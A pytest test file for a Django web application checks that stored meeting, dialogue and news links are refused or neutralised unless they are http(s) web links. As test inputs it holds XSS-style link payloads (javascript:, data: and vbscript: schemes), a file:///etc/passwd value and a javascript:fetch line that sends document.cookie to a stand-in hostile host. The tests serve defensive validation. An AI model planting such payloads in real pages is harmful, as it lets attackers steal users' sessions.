"""Stored links are web links only (issue #11, point 9): core/links.py is the one helper.

Every field that stores a URL shown to people refuses anything but http(s) where it is written
(the domain functions, so web and API alike; `Model.clean`, so the admin too), and every
template renders a stored link through the `web_link` filter, so a row written before these
checks (or by a bulk load) is never an href.
"""

from __future__ import annotations

import re
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.utils import timezone

from satupintu.core.errors import DomainError
from satupintu.core.links import check_web_link, is_web_link, web_link_or_empty
from satupintu.feedback import dialogues
from satupintu.feedback.models import Dialogue
from satupintu.organization.models import Office, Role, StaffRole
from satupintu.rakor import followups, meetings
from satupintu.rakor.models import Meeting, MeetingType, ProgressUpdate
from satupintu.situation.models import Item, Source, SourceKind

SCRIPTS = ["javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
           "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//jahat.example/x",
           "https://", "http://ok.example/\njavascript:alert(1)", "https://ok.example/ x", "https://[::1",
           "file:///etc/passwd", "ftp://contoh.go.id/berkas"]
HREF_SCRIPT = re.compile(r'href="\s*(javascript|data|vbscript):', re.I)


@pytest.mark.parametrize("url", SCRIPTS)
def test_only_web_links_are_links(url):  # type: ignore[no-untyped-def]
    assert not is_web_link(url) and web_link_or_empty(url) == ""
    with pytest.raises(DomainError) as caught:
        check_web_link(url, field="link")
    assert (caught.value.code, caught.value.field) == ("invalid_link", "link")


def test_web_links_pass():  # type: ignore[no-untyped-def]
    for url in ("https://zoom.us/j/123?pwd=a#b", "http://kemenag.go.id", "HTTPS://YouTube.com/live/x"):
        assert is_web_link(url) and check_web_link(f" {url} ", field="link") == url
    assert check_web_link("", field="link") == ""
    assert not is_web_link("https://contoh.id/" + "x" * 500, 500)


# --- NGOPAS: the reported hole -------------------------------------------------------------------


@pytest.fixture
def organiser(db):  # type: ignore[no-untyped-def]
    user = get_user_model().objects.create_user("humas.lutra", "h@test.local", "sandi-uji-123")
    StaffRole.objects.create(user=user, office=Office.objects.get(code="73.22"), role=Role.COMPLAINT_OFFICER)
    return user


@pytest.mark.django_db
@pytest.mark.parametrize("venue", ["mosque", "online"])
def test_a_dialogue_link_must_be_a_web_link_whatever_the_venue(organiser, venue):  # type: ignore[no-untyped-def]
    c = Client()
    c.force_login(organiser)
    soon = (timezone.now() + timedelta(days=3)).astimezone(timezone.get_fixed_timezone(480))
    response = c.post("/petugas/ngopas/", {"office": "73.22", "title": "NGOPAS di Masjid Raya Masamba",
                                           "venue_type": venue, "place": "Masjid Raya Masamba",
                                           "online_link": "javascript:alert(document.cookie)",
                                           "starts_at": soon.strftime("%Y-%m-%dT%H:%M"), "publish": "1"})
    assert response.status_code == 400  # the form sent back with the error on the link
    assert "Tautan harus alamat web http(s) yang sah" in response.content.decode()
    assert not Dialogue.objects.exists()
    with pytest.raises(DomainError):
        dialogues.dialogue_schedule(user=organiser, office=Office.objects.get(code="73.22"), title="NGOPAS uji",
                                    venue_type=venue, place="Masjid", online_link="data:text/html,x",
                                    starts_at=timezone.now())


@pytest.mark.django_db
def test_a_stored_script_link_is_never_an_href_on_the_public_page(organiser):  # type: ignore[no-untyped-def]
    office = Office.objects.get(code="73.22")
    # Written before the check existed (or by a bulk load): the page still must not link it.
    bad = Dialogue.objects.create(office=office, title="NGOPAS lama", venue_type="mosque", place="Masjid",
                                  online_link="javascript:alert(document.cookie)", published=True,
                                  starts_at=timezone.now() + timedelta(days=2))
    good = Dialogue.objects.create(office=office, title="NGOPAS daring", venue_type="online",
                                   online_link="https://zoom.us/j/123", published=True,
                                   starts_at=timezone.now() + timedelta(days=3))
    page = Client().get("/ngopas/", {"office": "73.22"}).content.decode()
    assert bad.title in page and good.title in page
    assert not HREF_SCRIPT.search(page) and 'href="https://zoom.us/j/123"' in page
    c = Client()
    c.force_login(organiser)
    record = c.get(f"/petugas/ngopas/{bad.pk}/").content.decode()
    assert bad.title in record and not HREF_SCRIPT.search(record)


@pytest.mark.django_db
def test_the_admin_refuses_script_links(client):  # type: ignore[no-untyped-def]
    root = get_user_model().objects.create_superuser("root", "root@test.local", "sandi-uji-123")
    client.force_login(root)
    office = Office.objects.get(code="73.22")
    # Django's own URL field stops "javascript:" in the admin; "ftp:" it lets through, the model does not.
    for link in ("javascript:alert(1)", "ftp://contoh.go.id/undangan"):
        response = client.post("/admin/feedback/dialogue/add/", {
            "office": str(office.pk), "title": "NGOPAS admin", "venue_type": "mosque", "place": "Masjid",
            "online_link": link, "starts_at_0": "2026-01-01", "starts_at_1": "10:00:00"})
        assert response.status_code == 200 and 'class="errorlist' in response.content.decode()
        assert not Dialogue.objects.exists()
    # Item.clean and Meeting/ProgressUpdate.clean are the same helper; check one directly.
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        Item(url="javascript:alert(1)").clean()
    with pytest.raises(ValidationError):
        Meeting(online_link="data:text/html,x").clean()
    with pytest.raises(ValidationError):
        ProgressUpdate(link="vbscript:x").clean()
    Item(url="https://contoh.id/berita").clean()


# --- Rakor and the Situation Room: stored rows rendered safely -----------------------------------


def _meeting(office: str = "73") -> Meeting:
    start = timezone.now() + timedelta(days=2)
    return meetings.create_meeting(meetings.MeetingDraft(
        office=office, type=MeetingType.RAKOR, title="Rakor Kanwil", starts_at=start,
        ends_at=start + timedelta(hours=3), agenda=list(meetings.STANDARD_AGENDA[:2])), user=None)


@pytest.mark.django_db
def test_stored_script_links_in_rakor_are_never_hrefs(people):  # type: ignore[no-untyped-def]
    meeting = _meeting()
    Meeting.objects.filter(pk=meeting.pk).update(online_link="javascript:alert(1)")
    decision = followups.add_decision(meeting, "Percepat layanan daring")
    office = Office.objects.get(code="73.22")
    action = followups.add_action(decision, office=office, indicator="Layanan daring berjalan",
                                  due_date=followups.office_today(office) + timedelta(days=7))
    ProgressUpdate.objects.create(action=action, author=people.kakan_lutra, note="Bukti lama",
                                  link="javascript:fetch('//jahat.example/'+document.cookie)")
    c = Client()
    c.force_login(people.kakanwil_sulsel)
    for url in (f"/rakor/{meeting.pk}/", f"/rakor/tindak-lanjut/{action.pk}/"):
        page = c.get(url)
        assert page.status_code == 200, url
        assert not HREF_SCRIPT.search(page.content.decode()), url
    with pytest.raises(DomainError):
        followups.report_progress(action, user=people.kakan_lutra, note="x", link="javascript:alert(1)")


@pytest.mark.django_db
def test_a_stored_script_item_url_is_never_an_href_in_the_room(people):  # type: ignore[no-untyped-def]
    from satupintu.situation.ingest.raw import RawItem
    from satupintu.situation.store import save_raw_items

    feed = Source.objects.create(name="Portal", kind=SourceKind.FEED, url="https://berita.contoh.id/feed")
    (item,) = save_raw_items(feed, [RawItem(
        external_id="x-1", title="Madrasah di Kabupaten Bogor buka kelas digital", url="https://berita.contoh.id/1",
        text="Sebuah madrasah aliyah di Kecamatan Cibinong, Kabupaten Bogor, membuka kelas digital bagi siswa.",
        published_at=timezone.now() - timedelta(hours=1))])
    Item.objects.filter(pk=item.pk).update(url="javascript:alert(document.cookie)")
    c = Client()
    c.force_login(people.kakanwil_sulsel)
    for url in ("/situasi/?provinsi=32", f"/situasi/isu/{item.issue_id}/"):
        page = c.get(url).content.decode()
        assert item.title in page and not HREF_SCRIPT.search(page), url
